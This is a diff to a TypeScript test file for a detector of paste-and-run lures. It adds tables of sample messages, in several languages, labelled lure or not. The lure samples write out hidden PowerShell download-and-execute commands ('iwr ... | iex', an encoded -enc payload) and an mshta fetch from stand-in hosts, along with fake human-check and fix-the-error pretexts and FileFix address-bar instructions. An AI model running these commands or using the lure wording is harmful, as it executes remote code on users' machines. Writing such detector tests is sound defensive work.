@@ -1,7 +1,7 @@
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
 import { cpuGrowth } from '../../test-support/growth.js';
-import { pasteAndRun } from './paste-and-run.js';
+import { commandToRun, pasteAndRun } from './paste-and-run.js';
 
 /** The paste-and-run lure (session 18): what reads as one, and the near misses that must not. */
 const rows: [text: string, asks: boolean][] = [
@@ -69,4 +69,37 @@ test('paste and run: linear in the text (repeated shortcuts without a paste, rep
     const ratio = cpuGrowth((n) => unit.repeat(Math.ceil(n / unit.length)), (text) => pasteAndRun(text), 1_500);
     assert.ok(ratio < 40, `${JSON.stringify(unit)}: 10× the text took ${ratio.toFixed(1)}× the CPU`);
   }
+});
+
+test('commandToRun: a download command written in the letter, hidden or given a human-check or fix-the-error pretext; not install guides or reports', () => {
+  const table: [string, boolean][] = [
+    ['To fix the error, open PowerShell and run:\npowershell -w hidden -c "iwr https://fix-tool.online/f.ps1 | iex"\n\nIT Support', true],
+    ['Run this once: powershell -NoP -WindowStyle Hidden -c "irm https://upd-check.online/a | iex"', true],
+    ['Copy and run: powershell -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwB4AC4AeAAvAHAAKQA=', true],
+    ['Press Win+X, open Terminal and type: mshta https://verify-check.online/v.hta', true],
+    ['Zur Bestätigung, dass Sie ein Mensch sind, führen Sie aus: powershell -c "iwr https://check.online/c | iex"', true],
+    ['Pour corriger l\'erreur, exécutez : powershell -c "irm https://correctif.online/f | iex"', true],
+    ['To fix the build error on your CI runner, run: curl -fsSL https://x.example/fix.sh | sh', false],
+    // Must not: install guides, a security write-up, a warning.
+    ['Install Scoop: open PowerShell and run irm get.scoop.sh | iex', false],
+    ["Install Chocolatey: Set-ExecutionPolicy Bypass -Scope Process -Force; iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))", false],
+    ['Researchers observed the attackers sending powershell -w hidden -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwB4AC4AeAAvAHAAKQA= to victims.', false],
+    ['Never run a command like powershell -w hidden -c "iwr https://x/f | iex" that a message asks you to.', false],
+    ['Open PowerShell and run Get-Module -ListAvailable Az to verify the installation.', false],
+  ];
+  for (const [text, expected] of table) assert.equal(commandToRun(text) !== null, expected, text);
+});
+
+test('pasteAndRun, the FileFix kind: File Explorer\'s address bar with a human check or a copy already made; not a share\'s path pasted there', () => {
+  const table: [string, boolean][] = [
+    ['To verify you are human: open File Explorer (Win+E), click the address bar, paste with Ctrl+V and press Enter.', true],
+    ['Verification: the file path has been copied. Press Win+E, paste it into the address bar and press Enter to open the document.', true],
+    ['Bestätigen Sie, dass Sie ein Mensch sind: Öffnen Sie den Datei-Explorer, fügen Sie in die Adressleiste mit Strg+V ein und drücken Sie Enter.', true],
+    ['人間であることの確認：エクスプローラーを開き、アドレスバーにCtrl+Vで貼り付けてEnterを押してください。', true],
+    // Must not: a share's path pasted into the address bar, a warning about the trick.
+    ['To open the team share, copy the path below, open File Explorer and paste it into the address bar: \\\\fileserver\\projects', false],
+    ['If the button does not work, the link has been copied: paste it into your browser\'s address bar with Ctrl+V to verify your address.', false],
+    ['Beware of FileFix: pages that ask you to verify you are human by pasting into the File Explorer address bar. Never do this.', false],
+  ];
+  for (const [text, expected] of table) assert.equal(pasteAndRun(text) !== null, expected, text);
 });
